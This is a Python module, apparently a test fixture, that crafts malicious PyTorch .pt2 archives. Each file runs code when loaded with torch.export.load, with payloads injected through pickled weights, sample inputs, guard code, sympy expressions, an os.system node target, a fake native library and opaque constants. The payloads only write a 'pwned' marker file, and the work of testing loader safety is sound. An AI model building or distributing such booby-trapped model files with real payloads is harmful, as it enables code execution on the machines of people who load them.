"""Crafted .pt2 files that run code when opened with a plain ``torch.export.load``: each writes
``marker`` (a file path) as its payload. Built from a real exported program by editing the archive,
the way an attacker would."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

import torch
from torch import nn


class _Payload:
    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self):
        return (eval, (self.code,))


def _write_marker(marker: Path, then: str) -> str:
    return f"__import__('pathlib').Path({str(marker)!r}).write_text('pwned') and {then}"


def base_program(path: Path) -> Path:
    m = nn.Sequential(nn.Linear(4, 3), nn.ReLU()).eval()
    torch.export.save(torch.export.export(m, (torch.randn(2, 4),)), str(path))
    return path


def _rewrite(src: Path, dst: Path, edit) -> Path:
    with zipfile.ZipFile(src) as zin:
        files = {i.filename: zin.read(i.filename) for i in zin.infolist()}
    root = next(iter(files)).split("/", 1)[0]
    files = edit(root, files)
    with zipfile.ZipFile(dst, "w") as zout:
        for name, data in files.items():
            zout.writestr(name, data)
    return dst


def _torch_save(obj) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def pickled_weight(src: Path, dst: Path, marker: Path) -> Path:
    def edit(root, files):
        cfg_name = f"{root}/data/weights/model_weights_config.json"
        cfg = json.loads(files[cfg_name])
        cfg["config"]["0.weight"]["use_pickle"] = True
        files[cfg_name] = json.dumps(cfg).encode()
        files[f"{root}/data/weights/weight_0"] = _torch_save(
            _Payload(_write_marker(marker, "__import__('torch').nn.Parameter(__import__('torch').zeros(3, 4))")))
        return files
    return _rewrite(src, dst, edit)


def pickled_inputs(src: Path, dst: Path, marker: Path) -> Path:
    """The stealthy one: the model loads and profiles normally afterwards."""
    def edit(root, files):
        files[f"{root}/data/sample_inputs/model.pt"] = _torch_save(
            _Payload(_write_marker(marker, "((__import__('torch').randn(2, 4),), {})")))
        return files
    return _rewrite(src, dst, edit)


def _edit_program(edit_program):
    def edit(root, files):
        name = f"{root}/models/model.json"
        program = json.loads(files[name])
        edit_program(program)
        files[name] = json.dumps(program).encode()
        return files
    return edit


def guard_code(src: Path, dst: Path, marker: Path) -> Path:
    def change(program):
        program["guards_code"] = [_write_marker(marker, "True")]
    return _rewrite(src, dst, _edit_program(change))


def sympy_expr(src: Path, dst: Path, marker: Path) -> Path:
    def change(program):
        values = program["graph_module"]["graph"]["tensor_values"]
        first = next(iter(values.values()))
        first["sizes"][0] = {"as_expr": {"expr_str": _write_marker(marker, "2"), "hint": {"as_int": 2}}}
    return _rewrite(src, dst, _edit_program(change))


def os_target(src: Path, dst: Path, marker: Path) -> Path:
    def change(program):
        program["graph_module"]["graph"]["nodes"][0]["target"] = "torch.os.system"
    return _rewrite(src, dst, _edit_program(change))


def native_library(src: Path, dst: Path, marker: Path) -> Path:
    def edit(root, files):
        files[f"{root}/data/aotinductor/model/model.so"] = b"\x7fELF not really"
        return files
    return _rewrite(src, dst, edit)


def opaque_constant(src: Path, dst: Path, marker: Path) -> Path:
    def edit(root, files):
        cfg_name = f"{root}/data/constants/model_constants_config.json"
        files[cfg_name] = json.dumps({"config": {"evil": {"path_name": "opaque_obj_0", "is_param": False,
                                                         "use_pickle": True, "tensor_meta": None}}}).encode()
        import pickle
        files[f"{root}/data/constants/opaque_obj_0"] = pickle.dumps(_Payload(_write_marker(marker, "1")))
        return files
    return _rewrite(src, dst, edit)


VARIANTS = {f.__name__: f for f in (pickled_weight, pickled_inputs, guard_code, sympy_expr, os_target, native_library,
                                    opaque_constant)}
